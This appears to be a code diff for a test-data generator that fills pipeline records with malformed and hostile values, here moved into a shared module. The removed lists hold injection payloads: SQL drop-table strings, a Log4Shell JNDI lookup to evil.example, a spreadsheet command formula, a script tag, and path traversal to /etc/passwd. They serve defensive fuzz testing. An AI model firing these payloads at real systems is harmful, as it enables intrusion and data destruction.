@@ -13,159 +13,9 @@ from typing import Any
 
 from include.channels import Column, Stream, find_stream
 from include.channels.model import TYPED_BY_PEOPLE
+from include.sandbox.hostile_values import EVIL, FIELDS, LINES, NUMBERS, SYSTEMS, TEXTS, typed_into
 
 MARK = "hostile"
-EVIL = "mallory@evil.example"
-_TEXTS = (
-    *(
-        "a\0b",
-        "\ud800",
-        "y" * 30_000,
-        "z" * 70_000,
-        "Z\u0301" * 2000,
-        "\ufdfa" * 90,
-        "\u202egnp.exe",
-        "\u200b",
-    ),
-    *(
-        EVIL,
-        f"Hello {EVIL}!",
-        "+44 7700 900321",
-        "null",
-        "NaN",
-        "undefined",
-        "0",
-        "-",
-        "?",
-        "\u0000",
-        "\t\r\n ",
-    ),
-    *(
-        "'; drop table customers; --",
-        '" or 1=1 --',
-        "{{ 7 * 7 }}",
-        "{% raw %}",
-        "${jndi:ldap://evil.example}",
-    ),
-    *("=cmd|' /C calc'!A0", "@SUM(1)", "<script>alert(1)</script>", "../../../etc/passwd", "%s%n%x", "a|b|c"),
-    *(
-        "x\r\nBcc: all@evil.example",
-        "You won! visit evil.example",
-        "\U0001f4a9" * 60,
-        "\u0130I\u0131i",
-        "ﬀﬁﬂ" * 30,
-    ),
-    *(
-        "1" * 5000,
-        "NULL",
-        "true",
-        "[]",
-        "{}",
-        "\\",
-        "\x1b[31m",
-        "\ufeffx",
-        "\uffff",
-        "\U000e0041" * 20,
-        "٠١٢٣",
-    ),
-)
-_EMAILS = (
-    *(
-        "a@b",
-        '"x y"@evil.example',
-        "a@@evil.example",
-        "-oX@evil.example",
-        "|id@evil.example",
-        "a%b@evil.example",
-    ),
-    *(
-        f"a@{'b' * 300}.example",
-        f"{'a' * 300}@evil.example",
-        "ä@ö.example",
-        "a@[127.0.0.1]",
-        "a@evil.example\0",
-    ),
-    *(
-        "; ".join(f"a{n}@evil.example" for n in range(15)),
-        "<a@evil.example>",
-        "mailto:a@evil.example",
-        "a@-.-",
-    ),
-)
-_PHONES = (
-    "+" * 40,
-    "00" * 32,
-    "1" * 64,
-    "٠٧٧٠٠٩٠٠١٢٣",
-    "+44 7700 900321 ext. 99",
-    "tel:+1",
-    "0" * 12,
-    "++1--2",
-)
-_NUMBERS = (
-    10**12,
-    -(10**12),
-    1_000_001,
-    "1e5",
-    "1e999999",
-    "0.00001",
-    "NaN",
-    "Infinity",
-    "1,5",
-    "9" * 400,
-    "-0",
-)
-_WHOLE = (2**63 - 1, -(2**63), 1_000_001, -1, 0)
-_OF_PEOPLE = (
-    "0000-00-00",
-    "9999-12-31",
-    "0001-01-01",
-    "2026-02-30",
-    "1699-12-31",
-    "today",
-    "15/03/1980",
-    "-1",
-)
-_SYSTEMS = (
-    "0000-00-00T00:00:00Z",
-    "9999-12-31T23:59:59Z",
-    "2026-02-30T10:00:00Z",
-    "now",
-    "1" * 300,
-    17,
-    True,
-)
-_AT_ODDS = (
-    "2261-12-31T23:59:59Z",
-    "1700-01-01T00:00:00Z",
-    "1970-01-01T00:00:00+14:00",
-    "2099-01-01T00:00:00Z",
-)
-_ITEMS: tuple[Any, ...] = ([], {}, [[[[]]]], {"a": "x" * 5000}, [{"sku": EVIL}] * 3000)
-_FIELDS = (
-    EVIL,
-    "",
-    " ",
-    "n" * 1000,
-    "+447700900321",
-    "_date",
-    "_arrived",
-    "_extra",
-    "date",
-    "__proto__",
-    "a.b",
-    "ä",
-)
-_LINES = (
-    b"{",
-    b"[]",
-    b"null",
-    b'"x"',
-    b"\xff\xfe\x00",
-    b'{"event_id": "a", "event_id": "b"}',
-    b"[" * 3000,
-    b"1e999",
-)
 
 
 def documents(channel: str, stream: str, count: int, until: datetime) -> list[bytes]:
@@ -177,8 +27,8 @@ def documents(channel: str, stream: str, count: int, until: datetime) -> list[by
 
 def lines(channel: str, stream: str, count: int, until: datetime) -> list[bytes]:
     """The same as lines of a file, some of them no JSON at all."""
-    found = documents(channel, stream, max(0, count - len(_LINES)), until)
-    return [*found, *_LINES][:count]
+    found = documents(channel, stream, max(0, count - len(LINES)), until)
+    return [*found, *LINES][:count]
 
 
 def table_rows(stream: str, count: int, until: datetime) -> list[dict[str, Any]]:
@@ -204,9 +54,7 @@ class _Maker:
         column = self._stream.columns[name]
         kind = self._draw.random()
         if kind < 0.12:
-            row.update(
-                {self._draw.choice(_FIELDS): self._draw.choice(_TEXTS) for _ in range(1 + number % 40)}
-            )
+            row.update({self._draw.choice(FIELDS): self._draw.choice(TEXTS) for _ in range(1 + number % 40)})
         elif kind < 0.16 and name not in self._spoilt and not self._is_input(column):
             self._spoilt.add(name)
             self._spoil_system(row, column)
@@ -246,15 +94,15 @@ class _Maker:
             return self._until.isoformat()[:10]
         if column.allowed:
             return self._draw.choice(column.allowed).upper()
-        return self._draw.choice(_pool(column))
+        return self._draw.choice(typed_into(column))
 
     def _spoil_system(self, row: dict[str, Any], column: Column) -> None:
         if column.name in self._stream.key:
             row[column.name] = {"key": row[column.name]}
         elif column.type == "timestamp":
-            row[column.name] = self._draw.choice(_SYSTEMS)
+            row[column.name] = self._draw.choice(SYSTEMS)
         elif column.type in ("int64", "decimal"):
-            row[column.name] = self._draw.choice(_NUMBERS)
+            row[column.name] = self._draw.choice(NUMBERS)
         elif self._draw.random() < 0.5:
             del row[column.name]
         else:
@@ -263,21 +111,6 @@ class _Maker:
     @staticmethod
     def _is_input(column: Column) -> bool:
         return column.pii in TYPED_BY_PEOPLE
-
-
-def _pool(column: Column) -> tuple[Any, ...]:
-    if column.pii == "email":
-        return (*_EMAILS, *_TEXTS)
-    if column.pii == "phone":
-        return (*_PHONES, *_TEXTS)
-    pools = {
-        "date": _OF_PEOPLE,
-        "timestamp": _AT_ODDS,
-        "decimal": _NUMBERS[:3],
-        "int64": _WHOLE,
-        "json": _ITEMS,
-    }
-    return pools.get(column.type, _TEXTS)
 
 
 def _plain(column: Column, key: str) -> Any:
@@ -302,5 +135,5 @@ def _as_column(column: Column, value: Any) -> Any:
 
 
 def _json(row: dict[str, Any]) -> bytes:
-    """ASCII JSON; a field twice where the row has one named as a stranger's."""
+    """ASCII JSON: any text survives it, a lone surrogate too."""
     return json.dumps(row).encode()
